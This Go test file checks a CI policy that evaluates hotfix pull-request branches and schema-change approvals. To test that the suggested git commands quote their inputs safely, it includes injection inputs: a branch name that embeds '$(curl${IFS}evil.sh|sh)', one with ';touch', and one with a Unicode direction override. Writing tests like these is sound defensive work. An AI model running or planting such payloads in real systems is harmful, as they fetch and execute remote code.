package policy

import (
	"strings"
	"testing"
)

var prod = ProductionState{Known: true, SHA: "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", Tag: "v1.4.2", Source: "deployment 7 (success)"}

func TestEvaluateBase(t *testing.T) {
	tests := []struct {
		name       string
		facts      BaseFacts
		conclusion string
		contains   []string
	}{
		{
			name:       "cut from the production tag",
			facts:      BaseFacts{Branch: "hotfix/pay", Head: "h", Production: prod, MergeBase: prod.SHA},
			conclusion: Success,
			contains:   []string{"Starts at production (v1.4.2)", "carries nothing unreleased"},
		},
		{
			name:       "cut from an old tag",
			facts:      BaseFacts{Branch: "hotfix/pay", Head: "h", Production: prod, MergeBase: "bbbbbbbbbbbb", MergeBaseTag: "v1.4.1", BehindBy: 3},
			conclusion: Failure,
			contains: []string{"3 commits behind v1.4.2", "`bbbbbbb` (v1.4.1)", "3 commits behind production",
				"git rebase --onto v1.4.2 bbbbbbbbbbbb hotfix/pay", "git switch -c hotfix/pay-2 v1.4.2"},
		},
		{
			name: "cut from develop, which contains production",
			facts: BaseFacts{Branch: "hotfix/pay", Head: "h", Production: prod, MergeBase: prod.SHA,
				Unreleased: []UnreleasedCommits{{Branch: "develop", Count: 7, ForkPoint: "dddddddddddd",
					Commits: []Commit{{"c1c1c1c1c1", "New checkout"}, {"c2c2c2c2c2", "Drop legacy API"}}}}},
			conclusion: Failure,
			contains: []string{"Carries 7 unreleased commits", "7 commits from `develop` that production does not have",
				"`c1c1c1c` New checkout", "… and 5 more", "git rebase --onto v1.4.2 dddddddddddd hotfix/pay"},
		},
		{
			name: "behind and unreleased",
			facts: BaseFacts{Branch: "hotfix/x", Production: prod, MergeBase: "old", BehindBy: 1,
				Unreleased: []UnreleasedCommits{{Branch: "release/1.5", Count: 1, ForkPoint: "fp"}, {Branch: "develop", Count: 0}}},
			conclusion: Failure,
			contains:   []string{"1 unreleased commit, 1 behind v1.4.2", "1 commit from `release/1.5`", "--onto v1.4.2 fp hotfix/x"},
		},
		{
			name:       "untagged production commit",
			facts:      BaseFacts{Branch: "hotfix/x", Production: ProductionState{Known: true, SHA: "cafecafecafecafe", Source: "deployment 9"}, MergeBase: "old", BehindBy: 2},
			conclusion: Failure,
			contains:   []string{"behind untagged cafecaf", "git rebase --onto cafecafecafecafe old hotfix/x", "production commit"},
		},
		{
			name: "a branch name that would run a command, and commit titles that mention a team",
			facts: BaseFacts{Branch: "hotfix/$(curl${IFS}evil.sh|sh)", Production: prod, MergeBase: prod.SHA,
				Unreleased: []UnreleasedCommits{{Branch: "release/1.5;touch${IFS}x", Count: 1, ForkPoint: "fp",
					Commits: []Commit{{"c1c1c1c1c1", "Ping @acme/everyone `now`"}}}}},
			conclusion: Failure,
			contains: []string{"git rebase --onto v1.4.2 fp 'hotfix/$(curl${IFS}evil.sh|sh)'",
				"git push --force-with-lease origin 'hotfix/$(curl${IFS}evil.sh|sh)'",
				"git switch -c 'hotfix/$(curl${IFS}evil.sh|sh)-2' v1.4.2", "from `release/1.5;touch${IFS}x`",
				"Ping @\u200dacme/everyone 'now'"},
		},
		{
			name:       "a branch name no quoting makes safe",
			facts:      BaseFacts{Branch: "hotfix/\u202eevil", Production: prod, MergeBase: "old", BehindBy: 1},
			conclusion: Failure,
			contains:   []string{"prints no command", "invisible formatting", "git branch -m"},
		},
		{
			name:       "fork",
			facts:      BaseFacts{Branch: "hotfix/evil", Production: prod, ForkRepo: "mallory/pay"},
			conclusion: Failure,
			contains:   []string{"hotfix PRs must come from a branch of this repository", "mallory/pay"},
		},
		{
			name:       "no production yet",
			facts:      BaseFacts{Branch: "hotfix/x"},
			conclusion: Failure,
			contains:   []string{"no successful deployment", "git tag v1.0.0", "production.tag_pattern"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := EvaluateBase(tt.facts)
			if r.Name != CheckBase || r.Conclusion != tt.conclusion {
				t.Fatalf("= %s %s, want %s", r.Name, r.Conclusion, tt.conclusion)
			}
			text := r.Title + "\n" + r.Summary
			for _, want := range tt.contains {
				if !strings.Contains(text, want) {
					t.Errorf("missing %q in:\n%s", want, text)
				}
			}
			if strings.Contains(tt.facts.Branch, "\u202e") && strings.Contains(text, "git rebase") {
				t.Errorf("a command with a name that shows other than what runs:\n%s", text)
			}
		})
	}
}

func TestSchemaGate(t *testing.T) {
	c := Default()
	approvedBy := func(login string) ApprovalVerdict {
		f := approvalFacts(map[string]LabelFact{
			"schema-approved": {Present: true, AddedBy: login, Permission: PermissionWrite, Role: "write", AddedAt: at(100)},
		})
		return c.Approve(f, c.Approval.SchemaLabels)
	}
	tests := []struct {
		name       string
		facts      SchemaFacts
		approval   ApprovalVerdict
		flagged    bool
		conclusion string
		contains   []string
		annots     int
	}{
		{"no schema files", SchemaFacts{Production: prod, Files: []string{"pay/timeout.go", "README.md"}, Complete: true}, nil,
			false, Success, []string{"No schema files changed (2 files checked"}, 0},
		{"migration", SchemaFacts{Production: prod, Files: []string{"pay/timeout.go", "db/migrations/042_index.sql"}, Complete: true}, approvedBy("dev"),
			true, ActionRequired, []string{"db/migrations/042_index.sql", "`schema-approved`", "added by @dev, who opened the pull request"}, 1},
		{"migration approved", SchemaFacts{Production: prod, Files: []string{"db/schema.rb"}, Complete: true}, approvedBy("dba"),
			true, Success, []string{"Approved: `schema-approved` by @dba"}, 1},
		{"incomplete list is flagged", SchemaFacts{Production: prod, Files: []string{"a.go"}, Complete: false, Incomplete: "GitHub listed 3000 of the files."}, nil,
			true, ActionRequired, []string{"Treated as a schema change", "GitHub listed 3000 of the files.", "never passes"}, 0},
		{"no production", SchemaFacts{}, nil, true, Failure, []string{"Production is unknown"}, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := c.ReadSchema(tt.facts)
			if v.Flagged != tt.flagged {
				t.Errorf("flagged = %v, want %v", v.Flagged, tt.flagged)
			}
			r := c.EvaluateSchema(tt.facts, v, tt.approval)
			if r.Conclusion != tt.conclusion {
				t.Fatalf("conclusion = %s, want %s\n%s", r.Conclusion, tt.conclusion, r.Summary)
			}
			for _, want := range tt.contains {
				if !strings.Contains(r.Title+"\n"+r.Summary, want) {
					t.Errorf("missing %q in:\n%s", want, r.Summary)
				}
			}
			if len(r.Annotations) != tt.annots {
				t.Errorf("annotations = %d, want %d", len(r.Annotations), tt.annots)
			}
		})
	}
}

func ptr[T any](v T) *T { return &v }

func TestFit(t *testing.T) {
	short := "fine"
	if Fit(short) != short {
		t.Error("Fit changed a short summary")
	}
	long := strings.Repeat("é", MaxSummary) // two bytes each
	got := Fit(long)
	if len(got) > MaxSummary || !strings.HasSuffix(got, "65535-character limit)") {
		t.Errorf("Fit: %d bytes, suffix %q", len(got), got[len(got)-40:])
	}
	if !strings.HasPrefix(got, "éé") || strings.Contains(got, "\uFFFD") {
		t.Error("Fit cut inside a character")
	}
}
